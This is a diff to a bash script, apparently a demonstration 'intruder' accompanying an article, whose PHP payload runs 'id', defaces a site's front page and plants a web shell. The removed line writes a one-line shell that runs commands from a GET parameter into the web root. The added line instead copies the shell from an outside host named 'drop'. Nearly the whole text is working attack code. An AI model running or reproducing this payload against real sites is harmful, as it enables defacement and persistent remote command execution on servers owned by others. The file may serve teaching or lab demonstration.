@@ -1,6 +1,6 @@
 #!/usr/bin/env bash
-# The article's intruder: has the site run PHP through its hole, which defaces the front page, drops a
-# web shell, and comes back through that.
+# The article's intruder: has the site run PHP through its hole, which defaces the front page, fetches a
+# web shell from the intruder's own server, and comes back through that.
 # ZERO_DRIFT_URL says where the site is; what it answers is printed.
 set -euo pipefail
 
@@ -8,7 +8,7 @@ set -euo pipefail
 readonly PAYLOAD='
 system("id");
 system("(echo \"<p>Owned</p>\" >> /var/www/html/index.html) 2>&1");
-file_put_contents("/var/www/html/shell.php", "<?php system(\$_GET[\"c\"]);\n") or print error_get_last()["message"] . "\n";
+copy("http://drop/shell.txt", "/var/www/html/shell.php") or print error_get_last()["message"] . "\n";
 '
 
 main() {
